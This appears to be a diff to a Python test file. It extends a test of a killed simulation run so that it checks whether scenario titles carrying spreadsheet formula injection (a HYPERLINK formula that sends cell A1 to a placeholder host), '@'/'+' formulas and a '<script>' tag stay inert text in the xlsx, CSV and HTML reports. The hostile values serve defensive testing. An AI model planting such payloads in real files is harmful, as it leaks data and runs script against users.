@@ -216,14 +216,25 @@ def test_a_damaged_manifest_is_one_clear_line(tmp_path, capsys, content, message
 # ---- a killed store --------------------------------------------------------------------------
 
 
+HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+
+
 def test_report_works_on_a_store_whose_run_was_killed_before_runs_parquet_was_written(tmp_path, capsys):
+    """Also: a scenario title that is a spreadsheet formula stays text in report.xlsx, the CSVs and the HTML."""
+    hostile = tmp_path / "hostile.toml"
+    hostile.write_text(
+        'name = "hostile"\n'
+        f"title = {{ zh = '{HOSTILE_TITLE}', en = '{HOSTILE_TITLE}' }}\n"
+        "description = { zh = '@SUM(1)', en = '+1+2 <script>alert(1)</script>' }\n"
+        'region = "demo"\ntargets = "hubei-47"\nstart = "2021-01"\nend = "2025-12"\n'
+        "[params]\ncontract_years = 3\n[sources]\ncontract_years = 'assumption: test'\n", encoding="utf-8")
     out = tmp_path / "killed"
-    argv = ["run", "baseline", "purchase_3yr", "-r", "8", "--region", "demo", "-o", str(out),
+    argv = ["run", "baseline", str(hostile), "-r", "8", "--region", "demo", "-o", str(out),
             "--executor", "serial", "-q"]
     proc = subprocess.Popen([sys.executable, "-m", "model.cli", *argv], env=ENV, start_new_session=True,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
     deadline = time.monotonic() + 90
-    while time.monotonic() < deadline and len(list((out / "records").glob("purchase_3yr*.json"))) < 2:
+    while time.monotonic() < deadline and len(list((out / "records").glob("hostile*.json"))) < 2:
         time.sleep(0.02)
     os.killpg(proc.pid, signal.SIGKILL)
     proc.wait()
@@ -231,6 +242,22 @@ def test_report_works_on_a_store_whose_run_was_killed_before_runs_parquet_was_wr
     assert main(["report", str(out)]) == 0, capsys.readouterr().err
     assert (out / "report.html").is_file() and (out / "report.xlsx").is_file() and (out / "runs.parquet").is_file()
     assert len(pd.read_parquet(out / "runs.parquet")) == len(list((out / "records").glob("*.json")))
+
+    import openpyxl
+
+    found = 0
+    for ws in openpyxl.load_workbook(out / "report.xlsx").worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                found += cell.value == HOSTILE_TITLE
+    assert found, "the title should be in the workbook, as text"
+    csv_text = "".join(p.read_text(encoding="utf-8-sig") for p in (out / "tables").glob("*.csv"))
+    assert "'" + HOSTILE_TITLE.replace('"', '""') in csv_text
+    for line in csv_text.splitlines():
+        for cell in line.split(","):
+            assert not cell.lstrip('"').startswith(("=", "@")), line
+    assert "<script>" not in (out / "report.html").read_text(encoding="utf-8")
 
 
 # ---- worker processes ------------------------------------------------------------------------
